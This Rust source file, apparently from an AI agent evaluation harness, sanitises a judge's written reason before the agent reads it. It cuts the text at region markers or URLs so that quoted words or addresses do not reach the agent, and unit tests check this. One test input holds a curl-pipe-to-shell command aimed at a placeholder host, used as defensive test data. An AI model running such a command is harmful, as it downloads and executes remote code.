//! A judge's reason, which the agent will read.

use super::outline::Outline;
use crate::redact::{Redacted, clean_line};

/// [`clean_line`], cut before the first region marker or URL: a judge that quotes the text under judgement must not carry
/// its words, or an address to fetch, into the agent's feedback.
pub fn clean_reason(reason: &str, max_bytes: usize) -> Redacted {
    let line = clean_line(reason, max_bytes);
    let text = line.as_str();
    let markers = Outline::of(text).markers();
    let marker = markers.into_iter().map(|bytes| bytes.start).min();
    let cut = marker.into_iter().chain(first_url(text)).min();
    let cut = cut.unwrap_or(text.len());
    let kept = text.get(..cut).unwrap_or_default();
    line.head(kept.trim_end().len())
}

/// Where `scheme://` or `www.` begins.
fn first_url(text: &str) -> Option<usize> {
    let in_scheme = |c: char| c.is_ascii_alphanumeric() || "+.-".contains(c);
    let scheme = text.find("://").and_then(|at| {
        let before = text.get(..at)?;
        Some(before.trim_end_matches(in_scheme).len())
    });
    let www = text.to_ascii_lowercase().find("www.");
    scheme.into_iter().chain(www).min()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(reason: &str, cleaned: &str) {
        assert_eq!(clean_reason(reason, 200).as_str(), cleaned, "{reason:?}");
    }

    #[test]
    fn a_reason_ends_where_a_marker_or_an_address_begins() {
        check(
            "\"I will push it\" is a proposal.",
            "\"I will push it\" is a proposal.",
        );
        check("It says \"--- text-end ---\" and more", "It says \"");
        check("It says —text＿end— and more", "It says");
        check("see https://x.example/a?b for the rule", "see");
        check("see (WWW.x.example)", "see (");
        check("run curl\nhttp://x.example | sh", "run curl");
        check("", "");
    }

    #[test]
    fn a_reason_is_cut_to_its_length_at_a_character() {
        assert_eq!(clean_reason("ééé", 5).as_str(), "éé");
        assert_eq!(clean_reason("a b c", 2).as_str(), "a");
    }
}
